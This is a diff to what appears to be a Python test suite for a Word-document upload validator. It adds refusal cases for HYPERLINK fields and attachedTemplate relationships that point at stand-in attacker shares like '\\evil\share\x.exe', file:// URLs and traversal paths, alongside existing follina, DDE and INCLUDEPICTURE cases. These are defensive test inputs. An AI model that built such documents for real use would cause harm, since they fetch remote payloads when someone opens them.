@@ -270,11 +270,23 @@ REMOTE, EMBEDDED, FIELD = "从网络或其他计算机取得内容", "嵌有程�
     (_body(f'<w:p {W}><w:fldSimple w:instr=\' INCLUDEPICTURE "http://evil.example/a.png" \\d \'/></w:p>'), "域代码（INCLUDEPICTURE）"),
     (_body(_field(' INCLUDETEXT "\\\\\\\\attacker\\\\share\\\\a.docx" ')), FIELD),
     (_body(NESTED_DDE), "名称由另一个域生成的域"),
+    # a HYPERLINK field held as the hyperlink relationship is (s25 defects10c #2): a share, file://, a link built
+    # by another field; a template path that climbs out of the drive or names a share
+    (_body(f'<w:p {W}><w:fldSimple w:instr=\'HYPERLINK "\\\\\\\\evil\\\\share\\\\x.exe"\'/></w:p>'), REMOTE),
+    (_body(_field(' hyperlink \\o "提示" "file://evil/share/x.exe" ')), REMOTE),
+    (_body('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> HYPERLINK </w:instrText></w:r>'
+           '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> REF target </w:instrText></w:r>'
+           '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'), REMOTE),
+    (_relationship("attachedTemplate", "file:///C:/../../\\\\evil\\share\\t.dotm", part="word/_rels/settings.xml.rels"),
+     REMOTE),
+    (_relationship("attachedTemplate", "C:\\Users\\..\\..\\t.dotm", part="word/_rels/settings.xml.rels"), REMOTE),
     # no DTD in a package part (no entity can be declared)
     ({"replace": {"word/document.xml": lambda b: b.replace(b"?>", b'?><!DOCTYPE x [<!ENTITY a "b">]>', 1)}},
      "不是有效的 Word 文档"),
 ], ids=["follina", "settings-template", "template", "remote-image", "unc-link", "remote-frame", "ole-inside",
-        "afchunk-part", "altchunk", "ddeauto", "dde-split", "includepicture", "includetext", "dde-by-quote", "doctype"])
+        "afchunk-part", "altchunk", "ddeauto", "dde-split", "includepicture", "includetext", "dde-by-quote",
+        "hyperlink-field-unc", "hyperlink-field-file", "hyperlink-field-nested", "template-unc", "template-dotdot",
+        "doctype"])
 def test_a_word_file_that_fetches_or_runs_something_when_opened_is_refused(cast, parts, message):
     publish_all(cast.a, actor=OPERATOR)
     before = state()
@@ -290,7 +302,9 @@ def test_a_word_file_with_page_numbers_a_date_and_a_web_link_is_accepted(cast):
     ok = _docx_edit(**{"replace": {
         "word/document.xml": lambda b: b.replace(b"<w:body>", (
             "<w:body>" + _field(" PAGE ", " \\* MERGEFORMAT ") + _field(' DATE \\@ "yyyy年M月d日" ')
-            + f'<w:p {W}><w:fldSimple w:instr=" NUMPAGES "/></w:p>').encode(), 1),
+            + f'<w:p {W}><w:fldSimple w:instr=" NUMPAGES "/></w:p>'
+            + _field(' HYPERLINK "https://www.gov.cn/zhengce/" \\o "国务院政策" ') + _field(' HYPERLINK \\l "第二节" ')
+            + f'<w:p {W}><w:fldSimple w:instr=\'HYPERLINK "mailto:zhengce@example.gov.cn"\'/></w:p>').encode(), 1),
         "word/_rels/document.xml.rels": lambda b: b.replace(b"</Relationships>", (
             f'<Relationship Id="rId98" Type="{REL}/hyperlink" Target="https://www.gov.cn/zhengce/" '
             'TargetMode="External"/></Relationships>').encode())},
